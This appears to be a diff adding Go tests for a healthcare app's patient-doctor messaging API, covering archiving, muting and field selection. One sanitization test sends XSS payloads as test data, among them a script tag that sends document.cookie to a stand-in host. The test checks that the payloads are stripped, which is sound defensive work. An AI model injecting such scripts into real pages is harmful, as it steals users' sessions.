@@ -0,0 +1,184 @@
+package handlers_test
+
+import (
+	"healthcare-app-server/internal/models"
+	"healthcare-app-server/internal/testutil"
+	"net/http"
+	"testing"
+	"time"
+)
+
+// conversationPreview is the part of a conversation list entry the tests look at.
+type conversationPreview struct {
+	ConversationID string `json:"conversationId"`
+	Archived       bool   `json:"archived"`
+	Muted          bool   `json:"muted"`
+}
+
+// sendMessage sends content from sender to recipient through the API.
+func (api *testAPI) sendMessage(t *testing.T, sender, recipient *models.User, content string) {
+	t.Helper()
+
+	recorder := testutil.PerformRequest(t, api.router, http.MethodPost, "/api/v1/messages/send",
+		map[string]string{"recipientId": recipient.ID, "content": content}, api.auth(t, sender))
+	if recorder.Code != http.StatusCreated {
+		t.Fatalf("sending message status = %d: %s", recorder.Code, recorder.Body.String())
+	}
+}
+
+// conversations returns user's conversation list, with archived conversations when includeArchived is set.
+func (api *testAPI) conversations(t *testing.T, user *models.User, includeArchived bool) []conversationPreview {
+	t.Helper()
+
+	path := "/api/v1/messages/conversations"
+	if includeArchived {
+		path += "?includeArchived=true"
+	}
+	recorder := testutil.PerformRequest(t, api.router, http.MethodGet, path, nil, api.auth(t, user))
+	if recorder.Code != http.StatusOK {
+		t.Fatalf("listing conversations status = %d: %s", recorder.Code, recorder.Body.String())
+	}
+	var previews []conversationPreview
+	decodeData(t, recorder, &previews)
+	return previews
+}
+
+// setConversationState patches user's state of the conversation with partner.
+func (api *testAPI) setConversationState(t *testing.T, user, partner *models.User, state map[string]bool) {
+	t.Helper()
+
+	recorder := testutil.PerformRequest(t, api.router, http.MethodPatch, "/api/v1/messages/conversations/"+partner.ID, state, api.auth(t, user))
+	if recorder.Code != http.StatusOK {
+		t.Fatalf("updating conversation state status = %d: %s", recorder.Code, recorder.Body.String())
+	}
+}
+
+// newConversation returns a patient and doctor with a care relationship who have exchanged a message.
+func newConversation(t *testing.T, api *testAPI) (patient, doctor *models.User) {
+	t.Helper()
+
+	patient = api.createUser(t, models.RolePatient)
+	doctor = api.createUser(t, models.RoleDoctor)
+	start := time.Now().UTC().Add(24 * time.Hour).Truncate(time.Minute)
+	api.create(t, &models.Appointment{PatientID: patient.ID, DoctorID: doctor.ID, StartTime: start, EndTime: start.Add(30 * time.Minute), Status: models.StatusConfirmed})
+	api.sendMessage(t, patient, doctor, "Is fasting needed before the blood test?")
+	return patient, doctor
+}
+
+func TestConversationArchivingIsPerParticipant(t *testing.T) {
+	api := newTestAPI(t)
+	patient, doctor := newConversation(t, api)
+
+	api.setConversationState(t, doctor, patient, map[string]bool{"archived": true})
+	if got := api.conversations(t, doctor, false); len(got) != 0 {
+		t.Errorf("doctor's list after archiving = %+v, want empty", got)
+	}
+	if got := api.conversations(t, doctor, true); len(got) != 1 || !got[0].Archived {
+		t.Errorf("doctor's list with archived = %+v, want the archived conversation", got)
+	}
+	if got := api.conversations(t, patient, false); len(got) != 1 || got[0].Archived {
+		t.Errorf("patient's list after the doctor archived = %+v, want the conversation, not archived", got)
+	}
+
+	api.setConversationState(t, patient, doctor, map[string]bool{"archived": true})
+	api.setConversationState(t, doctor, patient, map[string]bool{"archived": false})
+	if got := api.conversations(t, doctor, false); len(got) != 1 || got[0].Archived {
+		t.Errorf("doctor's list after unarchiving = %+v, want the conversation", got)
+	}
+	if got := api.conversations(t, patient, false); len(got) != 0 {
+		t.Errorf("patient's list after the doctor unarchived = %+v, want it still archived", got)
+	}
+}
+
+func TestConversationMutingIsPerParticipant(t *testing.T) {
+	api := newTestAPI(t)
+	patient, doctor := newConversation(t, api)
+
+	api.setConversationState(t, patient, doctor, map[string]bool{"muted": true})
+	if got := api.conversations(t, patient, false); len(got) != 1 || !got[0].Muted {
+		t.Errorf("patient's list = %+v, want the conversation muted", got)
+	}
+	if got := api.conversations(t, doctor, false); len(got) != 1 || got[0].Muted {
+		t.Errorf("doctor's list = %+v, want the conversation not muted", got)
+	}
+}
+
+func TestNewMessageUnarchivesForTheReceiverOnly(t *testing.T) {
+	api := newTestAPI(t)
+	patient, doctor := newConversation(t, api)
+
+	api.setConversationState(t, patient, doctor, map[string]bool{"archived": true})
+	api.setConversationState(t, doctor, patient, map[string]bool{"archived": true})
+	api.sendMessage(t, doctor, patient, "No, you can eat as usual.")
+
+	if got := api.conversations(t, patient, false); len(got) != 1 || got[0].Archived {
+		t.Errorf("receiver's list = %+v, want the conversation back", got)
+	}
+	if got := api.conversations(t, doctor, false); len(got) != 0 {
+		t.Errorf("sender's list = %+v, want it still archived", got)
+	}
+}
+
+func TestSendMessageNeutralizesScriptPayloads(t *testing.T) {
+	api := newTestAPI(t)
+	patient, doctor := newConversation(t, api)
+
+	recorder := testutil.PerformRequest(t, api.router, http.MethodPost, "/api/v1/messages/send", map[string]string{
+		"recipientId": doctor.ID,
+		"subject":     `<img src=x onerror="alert(1)">Results`,
+		"content":     `See attached<script>fetch("https://evil.test/?c="+document.cookie)</script>, thanks`,
+	}, api.auth(t, patient))
+	if recorder.Code != http.StatusCreated {
+		t.Fatalf("status = %d, want %d: %s", recorder.Code, http.StatusCreated, recorder.Body.String())
+	}
+	var sent struct {
+		ID      string `json:"id"`
+		Subject string `json:"subject"`
+		Content string `json:"content"`
+	}
+	decodeData(t, recorder, &sent)
+
+	var stored models.Message
+	if err := api.db.First(&stored, "id = ?", sent.ID).Error; err != nil {
+		t.Fatalf("reloading message: %v", err)
+	}
+	for _, got := range []struct{ field, value, want string }{
+		{"response subject", sent.Subject, "Results"},
+		{"response content", sent.Content, "See attached, thanks"},
+		{"stored subject", stored.Subject, "Results"},
+		{"stored content", stored.Content, "See attached, thanks"},
+	} {
+		if got.value != got.want {
+			t.Errorf("%s = %q, want %q", got.field, got.value, got.want)
+		}
+	}
+
+	// A message that is nothing but markup is empty once sanitized
+	recorder = testutil.PerformRequest(t, api.router, http.MethodPost, "/api/v1/messages/send",
+		map[string]string{"recipientId": doctor.ID, "content": "<script>alert(1)</script>"}, api.auth(t, patient))
+	if recorder.Code != http.StatusBadRequest {
+		t.Errorf("markup-only message status = %d, want %d: %s", recorder.Code, http.StatusBadRequest, recorder.Body.String())
+	}
+}
+
+func TestGetMessagesForUserSelectsOnlyRequestedFields(t *testing.T) {
+	api := newTestAPI(t)
+	patient, _ := newConversation(t, api)
+
+	selects := api.captureSelects(t, "messages")
+	recorder := testutil.PerformRequest(t, api.router, http.MethodGet, "/api/v1/messages?fields=subject,createdAt", nil, api.auth(t, patient))
+	if recorder.Code != http.StatusOK {
+		t.Fatalf("status = %d, want %d: %s", recorder.Code, http.StatusOK, recorder.Body.String())
+	}
+	assertSelect(t, selects(), []string{"id", "sender_id", "receiver_id", "conversation_id", "subject", "created_at"},
+		[]string{"content", "parent_id", "read_at"})
+
+	var messages []map[string]interface{}
+	decodeData(t, recorder, &messages)
+	if len(messages) != 1 {
+		t.Fatalf("got %d messages, want 1", len(messages))
+	}
+	if _, ok := messages[0]["content"]; ok {
+		t.Errorf("response has the excluded content: %v", messages[0])
+	}
+}